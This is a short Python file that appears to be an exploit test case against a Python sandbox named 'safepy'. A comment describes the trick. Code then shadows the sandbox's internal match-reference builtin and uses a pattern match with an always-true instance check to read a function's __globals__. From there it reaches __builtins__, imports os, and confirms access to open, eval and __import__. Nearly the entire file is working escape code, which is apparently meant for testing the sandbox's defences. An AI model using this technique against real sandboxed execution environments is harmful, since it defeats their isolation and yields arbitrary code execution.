# technique: a module-level class/def named __safepy_match_ref__ (FunctionDef/ClassDef names are never checked) shadows the rewriter's builtin, so `case Peek(g)` runs the raw MATCH_CLASS and getattr(subject, '__globals__') from the unchecked __match_args__
# expect: any
import json
class AnyInstance(type):
    def __instancecheck__(cls, obj):
        return True
Peek = AnyInstance("Peek", (), {"__match_args__": ("__globals__",)})
class __safepy_match_ref__:          # globals are searched before builtins
    def __init__(self, thunk):
        self.cls = thunk()           # hand the interpreter the real, unchecked class
match json.dumps:
    case Peek(g):
        pass
bi = g["__builtins__"]
os_mod = bi["__import__"]("os")
print(type(g), sorted(g)[:4])
print(bi["open"], bi["eval"], bi["__import__"])
print(os_mod, os_mod.getpid())
